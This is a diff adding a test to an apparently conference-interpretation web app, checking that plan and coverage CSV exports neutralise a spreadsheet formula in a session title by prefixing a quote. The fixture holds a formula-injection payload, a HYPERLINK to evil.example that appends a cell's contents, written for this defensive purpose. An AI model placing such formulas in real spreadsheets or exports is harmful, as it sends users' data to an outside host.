@@ -226,3 +226,14 @@ def test_the_plan_names_the_mode_and_what_to_look_at_on_the_page_and_in_the_csv(
         row[3] == "Booths in the room" and "the room has fewer booths than languages" in row[7]
         for row in rows
     )
+
+
+def test_the_plan_and_coverage_csv_write_a_formula_in_a_title_as_text(officer_client, session):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    session.sittings.update(title=formula)
+    registration_services.approve(register(session, listening_language="fr"), actor=None)
+
+    for what in ("plan", "coverage"):
+        response = officer_client.get(f"/sessions/ieg/interpretation/{what}.csv")
+        rows = list(csv.reader(io.StringIO(response.content.decode())))
+        assert rows[1][0] == "'" + formula
